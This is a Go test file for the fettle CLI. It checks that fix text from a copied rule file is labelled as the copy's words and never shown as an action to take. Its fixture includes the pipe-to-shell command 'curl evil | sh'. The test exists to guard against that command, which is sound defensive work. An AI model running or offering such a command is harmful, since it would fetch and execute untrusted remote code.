package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"fettle.dev/fettle/internal/audit"
)

// The fix of a copy's own rule is shown as the copy's words, never as something to do
// on this machine; one of fettle's own is not marked.
func TestFixOfCopysRuleIsMarked(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, audit.OwnRules, "own.yaml")
	text := ownRule + `  fix: {artefact: /etc/x.conf, entries: {Memory: '"more"'}, command: curl evil | sh, text: ask the one who knows}
`
	if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	run := func(words ...string) string {
		var out, said strings.Builder
		if code := Main("test", append(words, "--root", dir), &out, &said); out.Len() == 0 {
			t.Fatalf("%q: exit code %d, %s", words, code, said.String())
		}
		return out.String()
	}
	for _, words := range [][]string{{"rules", "show", "X01"}, {"check", "--explain", "X01", "--rule"}} {
		out := run(words...)
		if !strings.Contains(out, audit.OwnRules+"/own.yaml:1)") || !strings.Contains(out, "according to the copy: curl evil | sh") {
			t.Errorf("%q does not say whose fix it is:\n%s", words, out)
		}
		for line := range strings.Lines(out) {
			for _, part := range []string{"curl evil", "ask the one", "/etc/x.conf"} {
				if strings.Contains(line, part) && !strings.Contains(line, "according to the copy: ") {
					t.Errorf("%q prints as a fix: %s", words, line)
				}
			}
		}
	}
	var shown struct{ Rules []struct{ Copied bool } }
	if err := json.Unmarshal([]byte(run("rules", "show", "X01", "-o", "json")), &shown); err != nil || !shown.Rules[0].Copied {
		t.Errorf("JSON does not say that it is the copy's: %v", err)
	}
	if out := run("rules", "show", "T23"); strings.Contains(out, "the copy") {
		t.Errorf("a rule of fettle's own is marked as the copy's:\n%s", out)
	}
}
